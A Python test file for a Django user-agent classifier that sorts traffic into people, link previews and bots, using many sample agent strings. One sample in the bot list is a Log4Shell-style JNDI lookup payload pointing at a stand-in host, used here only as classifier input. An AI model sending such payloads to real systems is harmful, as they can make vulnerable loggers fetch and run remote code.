"""People, link previews and machines, told apart by their user agent."""

from __future__ import annotations

import io

import pytest
from crawleruseragents import CRAWLER_USER_AGENTS_DATA
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from tracking.agents import REASONS, Kind, classify

WEBKIT = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
IOS = f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) {WEBKIT} Mobile/15E148"
WEB_VIEW = "Chrome Mobile WebView"
CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.0.0 Mobile Safari/537.36"
IPAD = f"Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) {WEBKIT} Version/17.5 Mobile/15E148 Safari/604.1"
YANDEX = "Mozilla/5.0 (Linux; Android 12; SM-A515F) AppleWebKit/537.36 YaBrowser/24.1 Mobile Safari/537.36"
ANDROID = f"Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP1A; wv) {CHROME}"


@pytest.mark.parametrize(
    ("agent", "app", "device"),
    [
        (f"{IOS} Instagram 334.0.0.32.99 (iPhone15,2; iOS 17_5; en_GB; scale=3.00)", "Instagram", "mobile"),
        (f"{ANDROID} musical_ly_2023405030 BytedanceWebview/d8a21c6", "TikTok", "mobile"),
        (f"{IOS} [FBAN/FBIOS;FBAV/465.0.0.41.99;FBDV/iPhone15,2]", "Facebook", "mobile"),
        (f"{IOS} Snapchat/12.87.0.40 (like Safari/8617.1, panda)", "Snapchat", "mobile"),
        (f"{IOS} [Pinterest/iOS]", "Pinterest", "mobile"),
        (f"Mozilla/5.0 (Linux; Android 11; CUBOT X50 Build/RP1A) {CHROME}", WEB_VIEW, "mobile"),
        (f"Mozilla/5.0 (Linux; Android 9; CUBOT_NOTE_S) {CHROME}", WEB_VIEW, "mobile"),
        (f"Mozilla/5.0 (Linux; Android 4.2.2; HTC Butterfly s Build/JDQ39) {CHROME}", WEB_VIEW, "mobile"),
        (IPAD, "Mobile Safari", "tablet"),
        (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {WEBKIT} Version/17.5 Safari/605.1.15", "Safari", "desktop"),
        (YANDEX, "Yandex Browser", "mobile"),
        (f"Mozilla/5.0 (Linux; Android 8.1.0; XBot_Senior Build/O11019) {CHROME}", WEB_VIEW, "mobile"),
        (f"Mozilla/5.0 (Linux; Android 13; Spider 8) {CHROME}", WEB_VIEW, "mobile"),
        (f"Mozilla/5.0 (Linux; Android 15; RMX3945 Build/AP3A.240617.008; wv) {CHROME}", WEB_VIEW, "mobile"),
        (f"{ANDROID} MetaIAB Facebook", "Facebook", "mobile"),
        (f"{ANDROID} Viber/11.9.5.8", "Viber", "mobile"),
        (
            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0; .NET4.0E; GWX:DOWNLOADED)",
            "IE",
            "desktop",
        ),
        (
            "Mozilla/5.0 (webOS/1.4.5; U; ru-RU) AppleWebKit/532.2 Version/1.0 Safari/532.2 Pixi/1.0",
            "webOS Browser",
            "mobile",
        ),
        ("Nokia6230/2.0 (03.15) Profile/MIDP-2.0 Configuration/CLDC-1.1", "Nokia Services (WAP) Browser", "mobile"),
    ],
)
def test_people_are_people_whatever_their_phone_is_called(agent: str, app: str, device: str) -> None:
    found = classify(agent)
    assert (found.kind, found.reason, found.device) == (Kind.HUMAN, "", device)
    assert found.app


@pytest.mark.parametrize(
    ("agent", "reason"),
    [
        ("", "no-agent"),
        ("-", "no-agent"),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler"),
        ("Mozilla/5.0 AppleWebKit/537.36 (compatible; GPTBot/1.1; +https://openai.com/gptbot)", "crawler"),
        ("Mozilla/5.0 (Linux; Android 5.0) Mobile (compatible; TikTokSpider; ttspider@tiktok.com)", "crawler"),
        ("curl/8.5.0", "tool"),
        ("python-requests/2.32.3", "tool"),
        ("Go-http-client/2.0", "tool"),
        ("okhttp/4.12.0", "tool"),
        ("PostmanRuntime/7.39.0", "tool"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 HeadlessChrome/125.0.0.0 Safari/537.36", "headless"),
        ("SomeThing/1.0", "crawler"),
        ("Reeder/3.2 CFNetwork/672.1.12 Darwin/14.0.0", "crawler"),
        ("npm/10.8.2 node/v22.3.0 linux x64", "crawler"),
        ("kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc", "crawler"),
        ("Outlook-iOS/723.4064.prod.iphone (4.2.0)", "crawler"),
        (f"Mozilla/5.0 (Linux; U; Android 4.0.2; en-us; Catchpoint) {WEBKIT} Mobile Safari/534.30", "crawler"),
        ("Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.1)", "crawler"),
        ("Mozilla/5.0 (compatible; FormFinder/1.0)", "crawler"),
        ("Mozilla/5.0 OnlyScans", "crawler"),
        ("Anonymous, Mozilla/5.0 (Linux; Android 11; CPH2211) Mobile Safari/537.36", "crawler"),
        ("${jndi:ldap://x.example/a}", "crawler"),
        (f"{IOS} (compatible; TikTok-Bot/1.0)", "crawler"),
        (f"{IOS} CloudflareObservatory/1.0", "crawler"),
    ],
)
def test_machines_have_a_reason(agent: str, reason: str) -> None:
    assert (classify(agent).kind, classify(agent).reason) == (Kind.BOT, reason)


@pytest.mark.parametrize(
    "agent",
    [
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "WhatsApp/2.23.20.0 A",
        "Twitterbot/1.0",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
        "TelegramBot (like TwitterBot)",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5",
        "Mattermost-Bot/1.1",
        "Viber/13.3.0.4 CFNetwork/1121.2.2 Darwin/19.3.0",
        "WhatsApp/2",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 Chrome/61 Safari/537.36 SkypeUriPreview Preview/0.5",
        f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) {WEBKIT} facebookexternalhit/1.1 Facebot Twitterbot/1.0",
        "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
        f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) {WEBKIT} Safari/601.2.4 facebookexternalhit/1.1 Facebot",
    ],
)
def test_link_previews_are_their_own_kind(agent: str) -> None:
    assert (classify(agent).kind, classify(agent).reason) == (Kind.PREVIEW, "preview")


@pytest.mark.parametrize("phone", ["CUBOT X50", "CUBOT_NOTE_S", "XBot_Senior", "Spider 8"])
def test_dub_takes_phones_whose_name_ends_in_bot_for_machines(phone: str) -> None:
    assert classify(f"Mozilla/5.0 (Linux; Android 13; {phone}) {CHROME}").kind == Kind.HUMAN


def test_dub_takes_browsers_called_yandex_for_machines() -> None:
    assert classify(YANDEX).kind == Kind.HUMAN


def test_dub_finds_three_of_four_known_bots() -> None:
    """Of the list's own examples at least 99.5 %; one of them is in truth a person in Instagram."""
    agents = [agent for entry in CRAWLER_USER_AGENTS_DATA for agent in entry.get("instances", [])]
    found = sum(classify(agent).kind != Kind.HUMAN for agent in agents)
    assert len(agents) > 1500
    assert found / len(agents) >= 0.995


@given(st.text(max_size=400))
def test_any_text_is_classified(agent: str) -> None:
    found = classify(agent)
    assert (found.reason in REASONS) == (found.kind != Kind.HUMAN)
    assert len(found.app) <= 40


def test_the_command_answers_one_word_a_line(monkeypatch: pytest.MonkeyPatch) -> None:
    lines = f"{IPAD}\r\nTwitterbot/1.0\ncurl/8.5.0\n\n".encode() + b"Mozilla/5.0 \xff\xfe Googlebot/2.1\n"
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(lines)))
    out = io.StringIO()
    call_command("classify_agents", stdout=out)
    assert out.getvalue().split() == ["human", "preview", "bot", "bot", "bot"]
